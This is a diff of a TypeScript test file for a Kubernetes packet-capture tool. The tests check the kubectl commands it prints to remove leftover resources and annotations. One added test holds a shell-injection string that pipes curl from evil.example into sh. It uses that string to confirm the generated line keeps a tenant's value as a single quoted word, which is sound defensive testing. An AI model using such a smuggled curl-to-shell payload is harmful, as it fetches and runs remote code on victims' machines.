@@ -1,3 +1,4 @@
+import { execFileSync } from 'node:child_process';
 import { expect, test } from 'vitest';
 import type { Kubectl } from '../../../src/cluster/index.ts';
 import { findLeftovers, type Search } from '../../../src/install/outcome/leftovers.ts';
@@ -29,7 +30,7 @@ function cluster(marks: string, answers: readonly object[][]): { readonly kubect
 const search = (kubectl: Kubectl): Search =>
   ({ kubectl, release: 'capture', namespace: 'tools', objects: [secret, kept], record, signal: new AbortController().signal, patienceSeconds: 0 });
 
-const objectLine = { object: 'secret/capture-certs in tools', line: 'kubectl delete secret capture-certs --namespace tools' };
+const objectLine = { object: 'secret/capture-certs in tools', line: 'kubectl delete secret/capture-certs --namespace tools' };
 const undo = (place: string, patch: object): string => `kubectl patch ${place} --type merge --patch '${JSON.stringify(patch)}'`;
 
 test('what is left is named with the line that removes it', async () => {
@@ -37,10 +38,10 @@ test('what is left is named with the line that removes it', async () => {
   const annotations = { 'packet-capture/opted-in-by': null };
   expect(await findLeftovers(search(kubectl))).toEqual([
     objectLine,
-    { object: 'mark on namespace/shop', line: undo('namespace shop', { metadata: { annotations, labels: { l: null } } }) },
+    { object: 'mark on namespace/shop', line: undo('namespace/shop', { metadata: { annotations, labels: { l: null } } }) },
     {
       object: 'mark on deployment/web in shop',
-      line: undo('deployment web --namespace shop', { metadata: { annotations }, spec: { template: { metadata: { annotations: { l: null } } } } }),
+      line: undo('deployment/web --namespace shop', { metadata: { annotations }, spec: { template: { metadata: { annotations: { l: null } } } } }),
     },
   ]);
 });
@@ -49,9 +50,19 @@ test('a key that another release has set too stays, and so does its mark', async
   const { kubectl } = cluster('{"tools/capture":"l","other/capture":"l"}', [[]]);
   const metadata = { annotations: { 'packet-capture/opted-in-by': '{"other/capture":"l"}' } };
   expect((await findLeftovers(search(kubectl))).map(({ line }) => line)).toEqual([
-    undo('namespace shop', { metadata }),
-    undo('deployment web --namespace shop', { metadata }),
+    undo('namespace/shop', { metadata }),
+    undo('deployment/web --namespace shop', { metadata }),
   ]);
+});
+
+test("a tenant's words in a mark stay one word of the line", async () => {
+  const evil = `x'; curl evil.example|sh; '`;
+  const { kubectl } = cluster(JSON.stringify({ 'tools/capture': evil, [evil]: 'y' }), [[]]);
+  const [{ line } = { line: '' }] = await findLeftovers(search(kubectl));
+  const words = execFileSync('sh', ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8' }).split('\0');
+  expect(words.slice(0, 6)).toEqual(['kubectl', 'patch', 'namespace/shop', '--type', 'merge', '--patch']);
+  expect(JSON.parse(words[6] ?? '')).toEqual({ metadata: { annotations: { 'packet-capture/opted-in-by': JSON.stringify({ [evil]: 'y' }) }, labels: { [evil]: null } } });
+  expect(words.slice(7)).toEqual(['']);
 });
 
 test('what other releases have set is theirs, and controllers are given time', async () => {
